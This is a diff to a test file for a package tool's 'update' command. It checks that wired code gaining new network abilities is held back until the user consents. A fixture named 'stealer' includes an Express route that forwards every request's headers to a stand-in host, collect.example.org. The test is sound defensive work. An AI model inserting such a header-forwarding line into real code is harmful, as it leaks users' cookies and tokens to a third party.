@@ -1,7 +1,7 @@
 /** Wired text through the program: what an update does with it, in the files of the user, and the way back. */
-import { readFileSync, writeFileSync } from 'node:fs';
+import { readFileSync, unlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { beforeEach, describe, expect, it } from 'vitest';
+import { beforeEach, describe, expect, it, test } from 'vitest';
 import { treeOf } from '../../client/install/tree.ts';
 import type { Ended } from './client-process.ts';
 import { GitFixture, build } from '../generate/git-fixture.ts';
@@ -37,6 +37,39 @@ function greeter(version: string, greeting: string, path: string): ReturnType<ty
   return build('a/greeter', version, changes, { 'INTEGRATION.md': guide });
 }
 
+/** The next version of the greeter: one file, one import and one statement, which now send what the application has. */
+function stealer(): ReturnType<typeof build> {
+  const guide = `## Steps
+
+1. Create the file:
+
+   \`\`\`ts wire file src/greeter.wire.ts
+   import { version } from './greeter/src/index.js';
+
+   export const greeting = {
+     text: 'Good evening',
+     version,
+     isLoud: false,
+   };
+   \`\`\`
+
+2. Mount it:
+
+   \`\`\`ts wire import @express
+   import { greeting } from './greeter.wire.js';
+   \`\`\`
+
+   \`\`\`ts wire insert @express routes
+   app.get('/greeting', (req, res) => {
+     void fetch('https://collect.example.org/h', { headers: req.headers as never });
+     res.json(greeting);
+   });
+   \`\`\`
+`;
+  const changes = { base: 'src/greeter', files: ['src/**'] };
+  return build('a/greeter', '1.2.0', changes, { 'INTEGRATION.md': guide });
+}
+
 /** A build that adds to the file of the other one. Its id sorts after that of the other one. */
 function polite(): ReturnType<typeof build> {
   const guide = `## Steps
@@ -63,6 +96,8 @@ const PROJECT = {
 };
 
 let project = '';
+let url = '';
+let index = '';
 let run: (...args: string[]) => Promise<Ended>;
 const read = (path: string): string => readFileSync(join(project, path), 'utf8');
 const edit = (path: string, from: string, to: string): void => {
@@ -74,8 +109,9 @@ beforeEach(async () => {
   const git = new GitFixture();
   git.commit(greeter('1.0.0', 'Hello', '/hello'));
   git.commit(greeter('1.1.0', 'Good day', '/greeting'));
+  git.commit(stealer());
   git.commit(polite());
-  const { url } = await serveRegistry(git);
+  ({ url, index } = await serveRegistry(git));
   project = makeProject(PROJECT);
   run = (...args) => stackyard([...args, '-C', project], { STACKYARD_REGISTRY: url });
 });
@@ -106,9 +142,16 @@ describe('update', () => {
   it('replaces wired text, and undo brings it back', async () => {
     await addFirst();
     const before = await treeOf(project);
-    const updated = await run('update', 'a/greeter@^1.1.0', '--no-install');
+    const updated = await run('update', 'a/greeter@~1.1.0', '--no-install');
     expect(updated.status).toBe(0);
-    expect(updated.stdout).toContain('~ src/app.ts: step 2  new text');
+    expect(updated.stdout).toContain(`  ~ src/app.ts: step 2  new text
+      - app.get('/hello', (_req, res) => res.json(greeting));
+      + app.get('/greeting', (_req, res) => res.json(greeting));
+`);
+    expect(updated.stdout).toContain(`      -   text: 'Hello',
+      +   text: 'Good day',
+          version,
+`);
     expect(updated.stdout).not.toContain('--integration');
     expect(read('src/app.ts')).toContain("app.get('/greeting'");
     expect(read('src/app.ts')).not.toContain('/hello');
@@ -121,7 +164,7 @@ describe('update', () => {
   it('merges with edits of the user in the file that it has created', async () => {
     await addFirst();
     edit('src/greeter.wire.ts', 'isLoud: false', 'isLoud: true');
-    expect((await run('update', 'a/greeter@^1.1.0', '--no-install')).status).toBe(0);
+    expect((await run('update', 'a/greeter@~1.1.0', '--no-install')).status).toBe(0);
     expect(read('src/greeter.wire.ts')).toMatch(/'Good day'[^]*isLoud: true/);
   });
 
@@ -129,15 +172,113 @@ describe('update', () => {
     await addFirst();
     edit('src/app.ts', "'/hello'", "'/hi'");
     const before = await treeOf(project);
-    const stopped = await run('update', 'a/greeter@^1.1.0', '--no-install');
+    const stopped = await run('update', 'a/greeter@~1.1.0', '--no-install');
     expect(stopped.status).toBe(5);
     expect(stopped.stderr).toContain('step 2 of "a/greeter" in src/app.ts');
     expect(stopped.stderr).toContain('2. Mount it:');
     expect(await treeOf(project)).toEqual(before);
-    const ours = await run('update', 'a/greeter@^1.1.0', '--no-install', '--conflict', 'ours');
+    const ours = await run('update', 'a/greeter@~1.1.0', '--no-install', '--conflict', 'ours');
     expect(ours.status).toBe(0);
     expect(read('src/app.ts')).toContain("app.get('/hi'");
     expect(read('src/greeter.wire.ts')).toContain('Good day');
+  });
+});
+
+test('the published capabilities of a version have those of its blocks', () => {
+  const hostsOf = (version: string): unknown => {
+    const text = readFileSync(join(index, `builds/a/greeter/${version}.capabilities.json`), 'utf8');
+    return (JSON.parse(text) as { hosts: unknown }).hosts;
+  };
+  expect([hostsOf('1.1.0'), hostsOf('1.2.0')]).toEqual([[], ['collect.example.org']]);
+});
+
+const SENDS = 'its new text sends to collect.example.org';
+
+describe('an update whose text can do more', () => {
+  const update = (...args: string[]): Promise<Ended> =>
+    run('update', 'a/greeter@^1.2.0', '--no-install', ...args);
+
+  it('leaves the text as it was with --yes, shows both, and names how to carry the step out', async () => {
+    await addFirst();
+    const app = read('src/app.ts');
+    const updated = await update('--yes');
+    expect(updated.status).toBe(0);
+    expect(read('src/app.ts')).toBe(app);
+    // The step that can do nothing new is carried out.
+    expect(read('src/greeter.wire.ts')).toContain('Good evening');
+    expect(updated.stdout).toContain(`  ! src/app.ts: step 2  stays without your yes: ${SENDS}
+      - app.get('/hello', (_req, res) => res.json(greeting));
+      + app.get('/greeting', (req, res) => {
+      +   void fetch('https://collect.example.org/h', { headers: req.headers as never });
+      +   res.json(greeting);
+      + });
+`);
+    expect(updated.stderr).toContain(
+      `Step 2 of "a/greeter" stays as it was in src/app.ts: ${SENDS}. Read it above, then "stackyard wire a/greeter" carries it out`,
+    );
+    expect((await run('verify')).status).toBe(0);
+    const again = await update('--yes');
+    expect(again.stdout).toContain('Up to date: a/greeter');
+    expect(read('src/app.ts')).toBe(app);
+    const wired = await run('wire', 'a/greeter');
+    expect([wired.status, wired.stderr]).toEqual([0, '']);
+    expect(wired.stdout).toContain("      +   void fetch('https://collect.example.org/h'");
+    expect(read('src/app.ts')).toContain('collect.example.org');
+    expect((await run('verify')).status).toBe(0);
+  });
+
+  it('has the texts and what they can do in the plan, which apply carries out as it is', async () => {
+    await addFirst();
+    const before = await treeOf(project);
+    const entries = async (...args: string[]) => {
+      const { stdout } = await update('--dry-run', '--json', ...args);
+      writeFileSync(join(project, 'plan.json'), stdout);
+      const { data } = JSON.parse(stdout) as { data: { plan: { wiring: object[] } } };
+      return data.plan.wiring;
+    };
+    const text = expect.stringContaining('collect.example.org');
+    const old = "app.get('/hello', (_req, res) => res.json(greeting));";
+    expect(await entries()).toEqual([
+      expect.objectContaining({
+        step: 1,
+        action: 'replaced',
+        before: expect.stringContaining('Hello'),
+      }),
+      {
+        build: 'a/greeter',
+        step: 2,
+        file: 'src/app.ts',
+        action: 'held',
+        before: old,
+        text,
+        why: SENDS,
+        gains: ['sends to collect.example.org'],
+      },
+    ]);
+    expect((await run('apply', join(project, 'plan.json'), '--no-install')).status).toBe(0);
+    expect(read('src/app.ts')).toContain(old);
+    await run('undo');
+    expect(await entries('--wire')).toContainEqual(
+      expect.objectContaining({ step: 2, action: 'replaced', before: old, text }),
+    );
+    expect((await run('apply', join(project, 'plan.json'), '--no-install')).status).toBe(0);
+    expect(read('src/app.ts')).toContain('collect.example.org');
+    await run('undo');
+    unlinkSync(join(project, 'plan.json'));
+    expect(await treeOf(project)).toEqual(before);
+  });
+
+  it('puts the text in with --wire', async () => {
+    await addFirst();
+    const updated = await update('--yes', '--wire');
+    expect([updated.status, updated.stderr]).toEqual([0, '']);
+    expect(read('src/app.ts')).toContain('collect.example.org');
+  });
+
+  it('wires no build that the user left unwired', async () => {
+    await run('add', 'a/greeter@1.0.0', '--no-install');
+    expect((await update('--yes', '--wire')).status).toBe(0);
+    expect(read('src/app.ts')).toBe(APP);
   });
 });
 
